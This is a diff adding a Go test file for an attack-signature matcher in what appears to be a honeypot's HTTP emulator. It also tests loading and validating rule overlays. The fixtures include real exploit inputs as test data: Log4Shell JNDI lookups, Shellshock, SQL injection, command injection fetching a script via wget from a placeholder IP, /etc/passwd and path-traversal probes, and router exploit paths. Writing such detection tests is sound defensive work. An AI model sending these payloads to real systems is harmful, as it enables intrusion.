@@ -0,0 +1,225 @@
+package signatures
+
+import (
+	"net/url"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+)
+
+// request returns the fields the HTTP emulator captures for a request.
+// Headers are given as "Name: value".
+func request(t *testing.T, method, uri, body string, headers ...string) Fields {
+	t.Helper()
+	u, err := url.ParseRequestURI(uri)
+	if err != nil {
+		t.Fatal(err)
+	}
+	f := Fields{
+		"method": {method},
+		"uri":    {uri},
+		"path":   {u.Path},
+		"query":  {u.RawQuery},
+		"body":   {body},
+	}
+	for _, h := range headers {
+		name, value, _ := strings.Cut(h, ": ")
+		f["headers"] = append(f["headers"], h)
+		f["header."+strings.ToLower(name)] = append(f["header."+strings.ToLower(name)], value)
+		if strings.EqualFold(name, "User-Agent") {
+			f["user_agent"] = []string{value}
+		}
+	}
+	return f
+}
+
+func matched(s *Set, protocol string, fields Fields) []string {
+	var ids []string
+	for _, m := range s.Match(protocol, fields) {
+		ids = append(ids, m.ID)
+	}
+	return ids
+}
+
+func TestBuiltinRules(t *testing.T) {
+	s, err := Load("")
+	if err != nil {
+		t.Fatal(err)
+	}
+	tests := []struct {
+		rule     string
+		name     string
+		fields   Fields
+		protocol string // http when empty
+		want     bool
+	}{
+		{"log4shell-jndi", "lookup", request(t, "GET", "/", "", "User-Agent: ${jndi:ldap://198.51.100.7:1389/a}"), "", true},
+		{"log4shell-jndi", "nested lookup", request(t, "GET", "/?x=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fx%7D", ""), "", true},
+		{"log4shell-jndi", "ssh username", Fields{"username": {"${jndi:ldap://x/a}"}}, "ssh", true},
+		{"log4shell-jndi", "template", request(t, "POST", "/cart", "total=${amount}"), "", false},
+		{"shellshock", "user agent", request(t, "GET", "/cgi-bin/status", "", "User-Agent: () { :; }; /bin/bash -c id"), "", true},
+		{"shellshock", "javascript", request(t, "POST", "/app.js", "function f() { return 1 }"), "", false},
+		{"spring4shell", "class loader", request(t, "POST", "/", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"), "", true},
+		{"spring4shell", "other protocol", Fields{"command": {"class.module.classLoader"}}, "ssh", false},
+		{"spring4shell", "form", request(t, "POST", "/", "class=math&module=3"), "", false},
+		{"path-traversal", "uri", request(t, "GET", "/static/../../secret", ""), "", true},
+		{"path-traversal", "encoded", request(t, "GET", "/download?file=%252e%252e%252fconfig", ""), "", true},
+		{"path-traversal", "dots in a name", request(t, "GET", "/docs/v1..2/index.html", ""), "", false},
+		{"sensitive-file", "passwd", request(t, "GET", "/index.php?page=/etc/passwd", ""), "", true},
+		{"sensitive-file", "similar path", request(t, "GET", "/about/etcetera/hosting", ""), "", false},
+		{"sql-injection", "union", request(t, "GET", "/item?id=1+UNION+ALL+SELECT+username,password+FROM+users", ""), "", true},
+		{"sql-injection", "sleep", request(t, "POST", "/login", "user=admin' AND sleep(5)-- -"), "", true},
+		{"sql-injection", "search", request(t, "GET", "/search?q=trade+union+history&sort=asc", ""), "", false},
+		{"command-injection", "uri", request(t, "GET", "/cgi-bin/ping?host=127.0.0.1;wget+http://198.51.100.7/a.sh", ""), "", true},
+		{"command-injection", "body", request(t, "POST", "/apply.cgi", "ping_ip=1.1.1.1`id`"), "", true},
+		{"command-injection", "punctuation", request(t, "GET", "/search?q=salt;pepper&x=fish|chips", ""), "", false},
+		{"phpunit-eval-stdin", "path", request(t, "POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "<?php echo md5('x');"), "", true},
+		{"phpunit-eval-stdin", "readme", request(t, "GET", "/vendor/phpunit/phpunit/README.md", ""), "", false},
+		{"tplink-luci-country", "country", request(t, "GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)", ""), "", true},
+		{"tplink-luci-country", "language", request(t, "GET", "/cgi-bin/luci/;stok=abc/locale?form=language", ""), "", false},
+		{"luci-probe", "root", request(t, "GET", "/cgi-bin/luci", ""), "", true},
+		{"luci-probe", "other script", request(t, "GET", "/cgi-bin/lucid.cgi", ""), "", false},
+		{"boaform-login", "login", request(t, "POST", "/boaform/admin/formLogin", "username=admin&psd=admin"), "", true},
+		{"boaform-login", "status", request(t, "GET", "/boaform/admin/formStatus", ""), "", false},
+		{"boaform-ping", "ping", request(t, "POST", "/boaform/admin/formPing", "target_addr=;wget+x"), "", true},
+		{"boaform-ping", "login", request(t, "POST", "/boaform/admin/formLogin", ""), "", false},
+		{"gpon-diag", "diag", request(t, "POST", "/GponForm/diag_Form?images/", "XWebPageName=diag&diag_action=ping"), "", true},
+		{"gpon-diag", "style", request(t, "GET", "/GponForm/diag_Form?style/", ""), "", false},
+		{"dlink-hnap", "soap action", request(t, "POST", "/HNAP1/", "", "SOAPAction: http://purenetworks.com/HNAP1/GetDeviceSettings/`cd /tmp && wget x`"), "", true},
+		{"dlink-hnap", "plain soap action", request(t, "POST", "/HNAP1/", "", "SOAPAction: http://purenetworks.com/HNAP1/GetDeviceSettings"), "", false},
+		{"thinkphp-invokefunction", "invoke", request(t, "GET", `/index.php?s=/Index/\think\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=x`, ""), "", true},
+		{"thinkphp-invokefunction", "index", request(t, "GET", "/index.php?s=/Index/index", ""), "", false},
+		{"apache-path-traversal", "cgi-bin", request(t, "GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "echo;id"), "", true},
+		{"apache-path-traversal", "icon", request(t, "GET", "/icons/apache_pb.gif", ""), "", false},
+		{"mvpower-shell", "shell", request(t, "GET", "/shell?cd+/tmp;wget+x", ""), "", true},
+		{"mvpower-shell", "script", request(t, "GET", "/shell/scripts.js", ""), "", false},
+		{"dotenv-exposure", "env", request(t, "GET", "/.env", ""), "", true},
+		{"dotenv-exposure", "environment", request(t, "GET", "/environment", ""), "", false},
+		{"git-exposure", "config", request(t, "GET", "/.git/config", ""), "", true},
+		{"git-exposure", "github", request(t, "GET", "/.github/workflows/ci.yml", ""), "", false},
+		{"wordpress-xmlrpc", "multicall", request(t, "POST", "/xmlrpc.php", "<methodCall><methodName>system.multicall</methodName></methodCall>"), "", true},
+		{"wordpress-xmlrpc", "other method", request(t, "POST", "/xmlrpc.php", "<methodCall><methodName>demo.sayHello</methodName></methodCall>"), "", false},
+	}
+
+	// Every built-in rule has a request it catches and a harmless one it
+	// lets through.
+	covered := make(map[string][2]bool)
+	for _, tt := range tests {
+		c := covered[tt.rule]
+		if tt.want {
+			c[0] = true
+		} else {
+			c[1] = true
+		}
+		covered[tt.rule] = c
+	}
+	for _, r := range s.rules {
+		if c := covered[r.ID]; !c[0] || !c[1] {
+			t.Errorf("rule %s lacks a matching or a benign test case", r.ID)
+		}
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.rule+"/"+tt.name, func(t *testing.T) {
+			protocol := tt.protocol
+			if protocol == "" {
+				protocol = "http"
+			}
+			ids := matched(s, protocol, tt.fields)
+			if slices.Contains(ids, tt.rule) != tt.want {
+				t.Errorf("matched %v, want %s: %v", ids, tt.rule, tt.want)
+			}
+		})
+	}
+}
+
+func TestOverlay(t *testing.T) {
+	base, err := Load("")
+	if err != nil {
+		t.Fatal(err)
+	}
+	files := map[string]string{
+		"rules.yaml": `
+rules:
+  - id: dotenv-exposure
+    name: Environment file disclosure
+    severity: high
+    patterns:
+      - field: path
+        contains: /.env.backup
+  - id: luci-probe
+    disabled: true
+  - id: admin-panel
+    name: Admin panel probe
+    severity: low
+    patterns:
+      - field: path
+        regex: '^/admin/?$'
+`,
+		"rules.json": `{"rules": [
+  {"id": "dotenv-exposure", "name": "Environment file disclosure", "severity": "high",
+   "patterns": [{"field": "path", "contains": "/.env.backup"}]},
+  {"id": "luci-probe", "disabled": true},
+  {"id": "admin-panel", "name": "Admin panel probe", "severity": "low",
+   "patterns": [{"field": "path", "regex": "^/admin/?$"}]}
+]}`,
+	}
+	for name, data := range files {
+		t.Run(name, func(t *testing.T) {
+			path := filepath.Join(t.TempDir(), name)
+			if err := os.WriteFile(path, []byte(data), 0600); err != nil {
+				t.Fatal(err)
+			}
+			s, err := Load(path)
+			if err != nil {
+				t.Fatal(err)
+			}
+			// One replaced, one removed, one added.
+			if s.Len() != base.Len() {
+				t.Errorf("Len = %d, want %d", s.Len(), base.Len())
+			}
+			tests := []struct {
+				uri  string
+				want []string
+			}{
+				{"/.env", nil},
+				{"/.env.backup", []string{"dotenv-exposure"}},
+				{"/cgi-bin/luci", nil},
+				{"/admin", []string{"admin-panel"}},
+			}
+			for _, tt := range tests {
+				if ids := matched(s, "http", request(t, "GET", tt.uri, "")); !slices.Equal(ids, tt.want) {
+					t.Errorf("%s matched %v, want %v", tt.uri, ids, tt.want)
+				}
+			}
+			if m := s.Match("http", request(t, "GET", "/.env.backup", "")); len(m) != 1 || m[0].Severity != "high" {
+				t.Errorf("replaced rule matched %+v, want severity high", m)
+			}
+		})
+	}
+}
+
+func TestOverlayErrors(t *testing.T) {
+	tests := []struct {
+		name, data, want string
+	}{
+		{"severity", "rules:\n  - id: x\n    severity: urgent\n    patterns: [{contains: a}]\n", "severity must be one of"},
+		{"duplicate", "rules:\n  - id: x\n    severity: low\n    patterns: [{contains: a}]\n  - id: x\n    severity: low\n    patterns: [{contains: b}]\n", "defined twice"},
+		{"regex", "rules:\n  - id: x\n    severity: low\n    patterns: [{regex: '(a'}]\n", "rule x"},
+		{"both", "rules:\n  - id: x\n    severity: low\n    patterns: [{contains: a, regex: b}]\n", "exactly one of"},
+		{"no patterns", "rules:\n  - id: x\n    severity: low\n", "has no patterns"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			path := filepath.Join(t.TempDir(), "rules.yaml")
+			if err := os.WriteFile(path, []byte(tt.data), 0600); err != nil {
+				t.Fatal(err)
+			}
+			if _, err := Load(path); err == nil || !strings.Contains(err.Error(), tt.want) {
+				t.Errorf("Load = %v, want an error containing %q", err, tt.want)
+			}
+		})
+	}
+}